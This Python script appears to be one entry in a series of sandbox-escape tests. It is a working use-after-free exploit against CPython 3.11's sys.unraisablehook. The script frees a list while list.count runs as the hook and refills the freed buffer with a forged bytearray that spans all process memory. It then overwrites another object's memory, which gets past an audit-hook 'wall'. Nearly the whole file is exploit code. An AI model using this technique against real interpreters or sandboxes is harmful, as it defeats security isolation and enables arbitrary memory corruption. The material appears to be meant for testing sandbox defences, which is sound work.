# family: wall (memory: sys.unraisablehook is called borrowed and replaces itself during its call)   goal: memory   interpreter: /usr/bin/python3
# Of our own, the fourteenth round's ok_03 shape in sys: 3.11's
# _PyErr_WriteUnraisableMsg reads sys.unraisablehook and calls it borrowed (after the
# audit event "sys.unraisablehook", which the wall lets through). The hook is lst.count;
# x.__eq__ sets sys.unraisablehook to another value, which frees the bound method and
# the list under list_count. An exception from __del__ makes the call. The wall: the
# hook keeps every unraisablehook and excepthook its event names.
import sys
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __eq__(self, other):
        keep.append(self)              # self: the fake bytearray over all memory
        return False
FAKEOBJ = W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
h1 = bytes(FAKEOBJ)                    # the fake bytearray: data at id(h1) + 32
ITEMS = (W(0) + W(id(h1) + 32))[:15]   # bytearray(15 bytes) -> a 16-byte buffer: the freed ob_item
def refill():
    k1 = bytearray(ITEMS); k2 = bytearray(ITEMS); k3 = bytearray(ITEMS); k4 = bytearray(ITEMS)
    keep.extend((k1, k2, k3, k4))
class X:
    def __eq__(self, other):
        sys.unraisablehook = sys.__unraisablehook__                         # drops the bound list.count, then its list (ob_item freed)
        refill()
        return False
x, y = X(), X()
lst = [x, y]
sys.unraisablehook = lst.count
del lst
class D:
    def __del__(self):
        raise ValueError("unraisable")
D()                                    # __del__ raises: the hook is called, list_count(lst, args)
sys.unraisablehook = sys.__unraisablehook__
found = [k for k in keep if type(k) is BA]
if found:
    mem = found[0]
    print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
    target = bytearray(b"AAAAAAAA")    # another object's memory, written through the fake
    start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
    mem[start] = 0x42
    if target[0] == 0x42:
        print("MEMORY-OVERWRITTEN", bytes(target))
